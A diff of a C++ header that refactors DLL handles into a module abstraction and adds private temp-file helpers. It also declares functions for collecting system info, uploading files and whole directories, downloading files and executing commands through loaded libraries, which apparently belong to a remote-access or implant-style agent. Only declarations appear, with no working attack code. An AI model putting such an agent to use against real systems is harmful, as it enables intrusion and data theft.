@@ -25,7 +25,7 @@
 #include <string>
 #include <vector>
 #include <filesystem>
-#include <Windows.h>
+#include "moduleRegistry.h"
 
 namespace fs = std::filesystem;
 
@@ -39,6 +39,8 @@ std::wstring getExecutableDir(void);
 
 bool writeFileContents(const std::string& filename, const std::string& fileContent);
 
+bool writeFileContentsFromBase64(const fs::path& filePath, const std::string& base64Content);
+
 std::wstring extractFilename(const std::wstring& filePath);
 
 std::wstring ExtractLastDirectoryName(const std::wstring& path);
@@ -49,7 +51,11 @@ bool isExecutable(const std::wstring& path);
 
 std::string generateRandomAlphanumeric(const int &length, const long long &seed);
 
-std::string extractBase64Data(const std::wstring& buff);
+/* <temp dir>/<prefix><pid>-<random>, new and writable by this account only. Sweeps the ones of dead processes first, empty on failure */
+fs::path createPrivateTempDirectory(const std::wstring &prefix);
+
+/* Owner-only permissions, fails rather than open a file that already exists */
+bool writeNewPrivateFile(const fs::path &path, const std::string &content);
 
 std::wstring getSysInfoInJson();
 
@@ -62,10 +68,10 @@ std::wstring findCompressionUtility(std::wstring &outputCompressionUtilityPath);
 
 
 // network
-bool DownloadFileFromURLViaDll(const HMODULE &hCurlLib, const std::wstring& url, const std::wstring& destDirPath, std::wstring& errorMsg);
-bool UploadFileToURLViaDll(const HMODULE &hCurlLib, const std::wstring& url, const std::wstring& filePath, std::wstring& errorMsg);
-bool UploadDirectoryToURLViaDll(const HMODULE &hCurlLib, const std::wstring& url, const std::wstring& dirPath, std::wstring& errorMsg, const std::wstring& extensions = L"");
+bool DownloadFileFromURLViaDll(const LoadedModule &fileTransferLib, const std::wstring& url, const std::wstring& destDirPath, std::wstring& errorMsg);
+bool UploadFileToURLViaDll(const LoadedModule &fileTransferLib, const std::wstring& url, const std::wstring& filePath, std::wstring& errorMsg);
+bool UploadDirectoryToURLViaDll(const LoadedModule &fileTransferLib, const std::wstring& url, const std::wstring& dirPath, std::wstring& errorMsg, const std::wstring& extensions = L"");
 
 // Function invoke via DLLs
-std::wstring filemanagerViaDll(const HMODULE &hFilemanagerLib, const std::wstring &dirToList);
-std::wstring executeCommandViaDll(const HMODULE &hExecLib, const std::wstring& command, const std::wstring& args);
+std::wstring filemanagerViaDll(const LoadedModule &filemanagerLib, const std::wstring &dirToList);
+std::wstring executeCommandViaDll(const LoadedModule &execLib, const std::wstring& command, const std::wstring& args);